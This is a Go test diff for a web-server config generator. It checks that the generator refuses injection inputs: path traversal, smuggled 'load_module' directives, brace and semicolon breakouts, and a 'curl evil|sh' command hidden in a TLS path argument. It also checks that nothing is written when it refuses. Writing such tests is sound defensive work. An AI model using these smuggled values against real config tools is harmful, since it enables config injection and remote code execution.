@@ -701,3 +701,67 @@ func TestFactsFileBounds(t *testing.T) {
 		t.Errorf("a long source is clipped, not refused: %s", errOut)
 	}
 }
+
+// gen refuses values that would leave their place: a server name that walks
+// out of --out or carries a directive, a profile file whose values inject
+// directives, numbers past what a host can have. Nothing is written.
+func TestGenRefusesInjection(t *testing.T) {
+	base := t.TempDir()
+	out := filepath.Join(base, "a", "b", "out")
+	os.MkdirAll(out, 0o755)
+	gen := func(args ...string) (string, int) {
+		all := append([]string{"gen", "--verify=false", "--cpus", "2", "--memory", "2GiB", "--out", out}, args...)
+		o, e, code := runCLI(t, "", all...)
+		return o + e, code
+	}
+	for _, args := range [][]string{
+		{"--profile", "static", "--server-name", "../../X"},
+		{"--profile", "static", "--server-name", "a.example;"},
+		{"--profile", "static", "--server-name", "a.example { }"},
+		{"--profile", "static", "--server-name", "a.example\nload_module /tmp/x.so"},
+		{"--profile", "static", "--root", "/srv/www; autoindex on"},
+		{"--profile", "static", "--root", "/srv/../etc"},
+		{"--profile", "proxy", "--upstream", "127.0.0.1:8080; }"},
+		{"--profile", "proxy", "--upstream", "127.0.0.1:99999"},
+		{"--profile", "static", "--acme", "--server-name", "*.example.com"},
+		{"--profile", "static", "--tls", "/etc/ssl/a.pem\ncurl evil|sh,/etc/ssl/k.pem"},
+		{"--profile", "proxy", "--concurrency", "9223372036854775807"},
+		{"--profile", "php", "--fpm-max-children", "9223372036854775807"},
+		{"--profile", "static", "--cpus", "9223372036854775807"},
+		{"--profile", "static", "--memory", "NaNGiB"},
+		{"--profile", "static", "--memory", "1e300GiB"},
+		{"--profile", "static", "--nofile", "100000:10"},
+	} {
+		msg, code := gen(args...)
+		if code != ExitError || strings.Contains(msg, "wrote") {
+			t.Errorf("%q: exit %d, want 2 and nothing written:\n%s", args, code, msg)
+		}
+	}
+	for name, profile := range map[string]string{
+		"root":      "name: x\nkind: static\nroot: \"/srv; load_module /tmp/evil.so\"\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
+		"try_files": "name: x\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: \"$uri =404; } server { listen 1\"\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
+		"gzip":      "name: x\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [\"text/css;\\nload_module x\"]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
+		"name":      "name: \"x\\nload_module /tmp/evil.so;\"\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
+		"size":      "name: x\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m;evil\nkeepalive_timeout: 30s\n",
+	} {
+		p := filepath.Join(base, name+".yaml")
+		os.WriteFile(p, []byte(profile), 0o644)
+		if msg, code := gen("--profile-file", p); code != ExitError {
+			t.Errorf("profile %s: exit %d, want 2:\n%s", name, code, msg)
+		}
+	}
+	var files []string
+	filepath.Walk(base, func(p string, fi os.FileInfo, err error) error {
+		if err == nil && !fi.IsDir() && !strings.HasSuffix(p, ".yaml") {
+			files = append(files, p)
+		}
+		return nil
+	})
+	if len(files) > 0 {
+		t.Errorf("written: %v", files)
+	}
+	// the ordinary values still pass
+	if msg, code := gen("--profile", "static", "--server-name", "app.example.com,*.example.org", "--root", "/srv/www"); code != ExitOK {
+		t.Errorf("ordinary values refused: exit %d\n%s", code, msg)
+	}
+}
